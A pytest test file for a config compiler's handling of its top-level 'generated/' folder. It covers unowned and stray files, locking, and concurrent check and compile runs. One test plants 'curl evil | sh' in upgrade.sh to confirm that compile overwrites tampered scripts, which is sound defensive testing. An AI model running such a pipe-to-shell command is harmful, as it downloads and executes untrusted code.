"""generated/'s own files: rollout.json, the top-level scripts and their record swap in with the environments."""

from __future__ import annotations

import contextlib
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from support import scenarios

from compiler import cli
from compiler.commands.compile import write_all
from compiler.pipeline import compile_repo
from compiler.repo import lock

Capture = pytest.CaptureFixture[str]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = scenarios.demo(tmp_path_factory.mktemp("demo") / "repo")
    write_all(root, compile_repo(root))
    return root


@pytest.fixture
def repo(template: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(template, tmp_path / "repo", symlinks=True))


def run(capsys: Capture, *argv: str) -> tuple[int, str]:
    capsys.readouterr()
    code = cli.main(list(argv))
    return code, capsys.readouterr().err


@pytest.mark.parametrize("name", ["NOTES.md", ".gitkeep", "upgrade.sh.orig"])
def test_top_level_unowned_file_is_reported_and_kept(repo: Path, capsys: Capture, name: str) -> None:
    stray = repo / "generated" / name
    stray.write_text("mine\n", encoding="utf-8")
    code, err = run(capsys, "check", "--root", str(repo))
    assert code == 3
    assert f"stale (extra): generated/{name}" in err
    assert "not written by rollplan" in err
    code, err = run(capsys, "compile", "--root", str(repo))
    assert code == 1
    assert f"not written by rollplan (not listed in the folder's .rollplan-owned): generated/{name}" in err
    assert stray.read_text(encoding="utf-8") == "mine\n"
    assert run(capsys, "compile", "--root", str(repo), "--force")[0] == 0
    assert not stray.exists()
    assert run(capsys, "check", "--root", str(repo))[0] == 0


def test_top_level_unowned_file_refused_with_other_changes_writes_nothing(repo: Path, capsys: Capture) -> None:
    (repo / "generated/NOTES.md").write_text("mine\n", encoding="utf-8")
    (repo / "generated/prod/plan.md").unlink()
    (repo / "generated/rollout.json").unlink()
    assert run(capsys, "compile", "--root", str(repo))[0] == 1
    assert not (repo / "generated/prod/plan.md").exists()
    assert not (repo / "generated/rollout.json").exists()


def test_top_level_special_file_is_reported_not_read(repo: Path, capsys: Capture) -> None:
    os.mkfifo(repo / "generated/pipe")
    code, err = run(capsys, "check", "--root", str(repo))
    assert code == 3
    assert "stale (extra): generated/pipe" in err


def test_top_level_selected_environments_leave_the_top_level_alone(repo: Path, capsys: Capture) -> None:
    (repo / "generated/NOTES.md").write_text("mine\n", encoding="utf-8")
    assert run(capsys, "compile", "--root", str(repo), "--env", "prod")[0] == 0
    assert run(capsys, "check", "--root", str(repo), "--env", "prod")[0] == 0
    assert (repo / "generated/NOTES.md").is_file()


def test_top_level_changed_scripts_are_written_with_the_environments(repo: Path, capsys: Capture) -> None:
    (repo / "generated/upgrade.sh").write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")
    (repo / "generated/rollout.json").unlink()
    code, err = run(capsys, "compile", "--root", str(repo))
    assert code == 0, err
    assert os.access(repo / "generated/upgrade.sh", os.X_OK)
    assert b"curl evil" not in (repo / "generated/upgrade.sh").read_bytes()
    assert (repo / "generated/rollout.json").is_file()
    assert run(capsys, "check", "--root", str(repo))[0] == 0


def test_top_level_one_lock_per_compile(repo: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    taken: list[str] = []
    real = lock.exclusive

    @contextlib.contextmanager
    def counted(folder: Path, shown: str) -> Iterator[None]:
        taken.append(shown)
        with real(folder, shown):
            yield

    monkeypatch.setattr(lock, "exclusive", counted)
    (repo / "generated/prod/plan.md").unlink()
    (repo / "generated/rollout.json").unlink()
    assert run(capsys, "compile", "--root", str(repo))[0] == 0
    assert taken == ["generated"]


def test_top_level_check_while_a_compile_writes_is_never_an_internal_error(repo: Path) -> None:
    import subprocess
    import sys

    from compiler.repo.example import TextEdit

    memory = TextEdit("environments/prod/values/regions/eastus.yaml", "        memory: 8Gi\n", "        memory: 10Gi\n")
    compile_argv = [sys.executable, "-m", "compiler", "compile", "--root", str(repo)]
    check_argv = [sys.executable, "-m", "compiler", "check", "--root", str(repo), "--jobs", "1"]
    for edit in (memory, TextEdit(memory.file, memory.new, memory.old)):
        scenarios.apply_edits(repo, [edit])
        runs = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
                for argv in (compile_argv, check_argv, compile_argv)]  # fmt: skip
        results = [(run.wait(timeout=180), run.communicate()[1].decode()) for run in runs]
        assert results[0][0] == 0 and results[2][0] == 0, results
        code, err = results[1]
        assert code in (0, 1, 3) and "internal error" not in err, err
        assert cli.main(["check", "--root", str(repo)]) == 0


def test_top_level_foreign_folder_is_reported_as_not_written_by_rollplan(repo: Path, capsys: Capture) -> None:
    (repo / "generated/docs").mkdir()
    (repo / "generated/docs/runbook.md").write_text("# runbook\n", encoding="utf-8")
    code, err = run(capsys, "check", "--root", str(repo))
    assert code == 3
    assert "stale (extra): generated/docs/runbook.md" in err
    assert "generated/docs/ belongs to no environment and holds files rollplan did not write" in err
    assert "unless --force" in err
